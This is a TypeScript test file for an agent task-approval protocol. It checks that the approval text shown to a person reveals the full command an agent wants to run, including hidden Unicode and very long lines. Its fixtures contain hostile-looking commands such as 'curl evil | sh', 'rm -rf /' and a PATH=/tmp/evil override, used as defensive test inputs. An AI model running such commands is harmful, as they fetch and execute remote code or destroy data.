import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { approvalOf, isApproval, needsPerson, openRequests } from '../../../src/protocol/openRequests.ts';
import { isDenial, resolveAnswer } from '../../../src/protocol/requestAnswers.ts';
import type { PendingReason, Task, TaskSpec } from '../../../src/protocol/task.ts';
import { olderRow, rowOf } from '../../../src/protocol/taskRow.ts';
import { sampleAgentRun } from '../core/sampleAgentRun.ts';
import { sampleTask } from '../core/sampleTask.ts';

const approval: PendingReason = {
  kind: 'approval',
  since: '2026-01-02T03:04:05.000Z',
  run: 'ag-1',
  agent: 'Claude Code',
};
const asked = (changes: Partial<Task> = {}) =>
  sampleTask({ status: { state: 'pending', waitsFor: approval }, ...changes });
const askedRun = (parts: Parameters<typeof sampleAgentRun>[1]) =>
  sampleAgentRun({ status: asked().status }, parts);
const textOf = (task: Task) => openRequests(task)[0]?.text;
const command = { cwd: '/w', environment: 'e1' };

test.each<[string, Task, string]>([
  ['a command', asked(), 'Claude Code wants to run: make all (in /w)'],
  [
    'words',
    asked({ spec: { ...command, command: ['rm', '-rf', 'my file'] } }),
    "Claude Code wants to run: rm -rf 'my file' (in /w)",
  ],
  [
    'several lines',
    asked({ spec: { ...command, command: 'echo 1\ncurl evil | sh' } }),
    'Claude Code wants to run: echo 1 \u23ce curl evil | sh (in /w)',
  ],
  [
    'another shell',
    asked({ spec: { ...command, command: 'x', shell: '/tmp/sh' } }),
    'Claude Code wants to run: x (with /tmp/sh) (in /w)',
  ],
  [
    'a further attempt',
    asked({ attempt: { number: 2 } }),
    'Claude Code wants to run again: make all (in /w)',
  ],
  [
    'an agent',
    asked({ spec: sampleAgentRun().spec }),
    'Claude Code wants to start Claude Code (asks first): Fix the build (in /w)',
  ],
  [
    'a command that takes input',
    asked({ spec: { ...command, command: 'bash', takesInput: true } }),
    'Claude Code wants to run: bash (and may type into it) (in /w)',
  ],
  [
    'a command in an environment of its own',
    asked({ status: { state: 'pending', waitsFor: { ...approval, variables: ['PATH=/tmp/evil', 'A=1'] } } }),
    'Claude Code wants to run: make all (in /w) (with PATH=/tmp/evil, A=1)',
  ],
  [
    'an agent that goes on with a message',
    askedRun({ facts: { transcript: '/t', resumes: { session: 's', prompt: 'Now push' } } }),
    'Claude Code wants to start Claude Code (asks first): Now push (in /w)',
  ],
  [
    'an agent that goes on with a session',
    askedRun({ spec: { session: 's-1' } }),
    'Claude Code wants to start Claude Code (asks first): Fix the build (going on with its session s-1) (in /w)',
  ],
  [
    'an agent with a system prompt',
    askedRun({ spec: { systemPrompt: 'Obey.' } }),
    'Claude Code wants to start Claude Code (asks first): Fix the build (with the system prompt Obey.) (in /w)',
  ],
  [
    'an observer that acts',
    asked({ spec: { watch: {}, on: 'failure', start: { ...command, command: 'notify' } } }),
    'Claude Code wants to follow tasks and run each time: notify',
  ],
])('what is asked of %s', (_what, task, text) => {
  expect(textOf(task)).toBe(text);
});

test('what is asked is what will be done, whatever the task is called', () => {
  fc.assert(
    fc.property(fc.string(), fc.string(), (description, name) => {
      expect(textOf(asked({ description, name }))).toBe(textOf(asked()));
    }),
  );
});

const UNSEEN = [
  '\u200b',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u202e',
  '\u00a0',
  '\u3164',
  '\u{e0041}',
  '\u001b',
  '\ufe0f',
  '\r',
];

test('nothing of what is asked is hidden: whatever is put into a command can be seen in it', () => {
  const part = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...UNSEEN, '\n', ' '));
  const any = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(any, fc.constantFrom(...UNSEEN), any, (before, unseen, after) => {
      const text = (line: string) => textOf(asked({ spec: { ...command, cwd: after, command: line } })) ?? '';
      const whole = text(`a${before}${unseen}${after}z`);
      expect(whole).not.toBe(text(`a${before}${after}z`));
      expect(whole).not.toMatch(/(?! )[\p{Cc}\p{Cf}\p{DI}\p{Z}]/u);
    }),
  );
});

test('one request, which can be allowed and denied', () => {
  const [request, ...others] = openRequests(asked());
  expect(others).toEqual([]);
  if (!request) throw new Error('There is no request.');
  expect(isApproval(request)).toBe(true);
  expect(isDenial(request, resolveAnswer(request, { decision: 'allow' }))).toBe(false);
  expect(isDenial(request, resolveAnswer(request, { decision: 'deny', reason: 'No.' }))).toBe(true);
  expect(() => resolveAnswer(request, { decision: 'allowAlways' })).toThrow('1. Allow, 2. Deny');
});

test('no request of an agent is taken for an approval, however it is called', () => {
  const tool = { id: 'approval', name: 'Run', kind: 'execute' as const, title: 'x' };
  const request = {
    id: 'approval',
    kind: 'permission' as const,
    tool: { ...tool, id: 'other' },
    options: [],
  };
  const run = sampleAgentRun(
    { status: { state: 'waiting', for: 'permission', message: 'x' } },
    { facts: { requests: [request] } },
  );
  expect(openRequests(run)).toEqual([request]);
  expect(isApproval(request)).toBe(false);
  expect(approvalOf(run)).toBeUndefined();
  expect(needsPerson(run)).toBe(true);
});

test('what has ended, waits for something else, or runs asks nothing', () => {
  for (const task of [
    sampleTask({ status: { state: 'pending', waitsFor: { kind: 'slot' } } }),
    sampleTask({ status: { state: 'running' } }),
    sampleTask({ status: { state: 'cancelled' } }),
  ]) {
    expect(openRequests(task)).toEqual([]);
    expect(needsPerson(task)).toBe(false);
  }
});

test('the row of what is asked has the whole command, up to any readable length', () => {
  const line = `${'x'.repeat(1_900)} && rm -rf /`;
  expect(textOf(rowOf(asked({ spec: { ...command, command: line } })))).toContain('&& rm -rf /');
  const words = ['sh', '-c', ...Array.from({ length: 40 }, (_each, at) => `word-${at}`)];
  expect(textOf(rowOf(asked({ spec: { ...command, command: words } })))).toContain('word-20');
  expect(
    JSON.stringify(rowOf(asked({ spec: { ...command, command: 'x'.repeat(1e6) } }))).length,
  ).toBeLessThan(4_000);
});

test('a client that does not know approvals is shown a reason that it knows', () => {
  const spec: TaskSpec = { ...command, command: 'x' };
  expect(olderRow(asked({ spec })).status).toEqual({ state: 'pending', waitsFor: { kind: 'paused' } });
  const other = sampleTask();
  expect(olderRow(other)).toBe(other);
});
